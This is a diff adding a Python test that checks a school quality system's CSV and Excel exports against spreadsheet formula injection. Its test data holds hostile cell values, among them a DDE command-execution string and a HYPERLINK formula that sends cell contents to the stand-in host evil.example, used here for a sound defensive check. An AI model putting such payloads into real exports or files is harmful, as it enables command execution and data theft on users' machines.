@@ -134,3 +134,50 @@ def test_a_check_in_has_a_pdf_report_for_its_unit_only(app, quality_org):
     assert as_user(app, "rektor_b").get(links[-1]).status_code == 404
     assert as_user(app, "huvudman").get(links[-1]).status_code == 200
     assert client.get("/kvalitet/avstamningar/inte-ett-id.pdf").status_code == 404
+
+
+FORMULA_CHARACTERS = "=+-@\uff1d\uff0b\uff0d\uff20"
+# Names a process owner gives a routine and its steps, each of which a spreadsheet program would run.
+HOSTILE_NAMES = {
+    "Stödkedja (test)": "-2+3+cmd|' /C calc'!A0",
+    "Anmäl till rektor": '=HYPERLINK("http://evil.example/?"&A1,"Öppna")',
+    "Utred behovet": "@SUM(1+1)",
+    "Utredningen är försenad": "\uff1d1+1",
+    "Besluta om åtgärdsprogram": "  +1+1",
+}
+
+
+def test_exports_never_hold_a_formula_a_routine_author_wrote(app, db, people, chain):
+    """Formula injection (#13 point 6): step and routine names come from routines, so every exported cell
+    that could be read as a formula is text — prefixed with an apostrophe in the CSV, a string (never a
+    formula) in the workbook."""
+    from xml.sax.saxutils import quoteattr
+
+    from editing_helpers import add_process_owner
+
+    from engine import editing, start_case
+    owner = add_process_owner(db, people.other_unit, "draftowner")
+    draft = editing.open_draft(db, chain.id, by=owner)
+    xml = draft.files[draft.main_file]
+    for old, new in HOSTILE_NAMES.items():
+        xml = xml.replace(f'name="{old}"', f"name={quoteattr(new)}")
+    editing.save(db, draft.id, by=owner, seen=draft.row_version, bpmn=xml)
+    editing.publish(db, draft.id, by=owner, note="Nya namn")
+    start_case(db, "stodkedja", pupil_id=people.pupil, by=people.teacher)  # its report step is open now
+    rektor = app.test_client()
+    login(rektor, "rektor")
+
+    exported = rektor.get("/kvalitet/export?format=csv").get_data().decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    for name in (HOSTILE_NAMES["Stödkedja (test)"], HOSTILE_NAMES["Anmäl till rektor"]):
+        assert "'" + name in cells and name not in cells
+    assert not [c for c in cells if c.lstrip()[:1] and c.lstrip()[0] in FORMULA_CHARACTERS]
+
+    book = load_workbook(io.BytesIO(rektor.get("/kvalitet/export?format=xlsx").get_data()))
+    written = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in written if c.data_type == "f"]
+    texts = {c.value for c in written}
+    assert HOSTILE_NAMES["Anmäl till rektor"] in texts and HOSTILE_NAMES["Stödkedja (test)"] in texts
+    risky = [c for c in written if isinstance(c.value, str) and c.value.lstrip()[:1]
+             and c.value.lstrip()[0] in FORMULA_CHARACTERS]
+    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
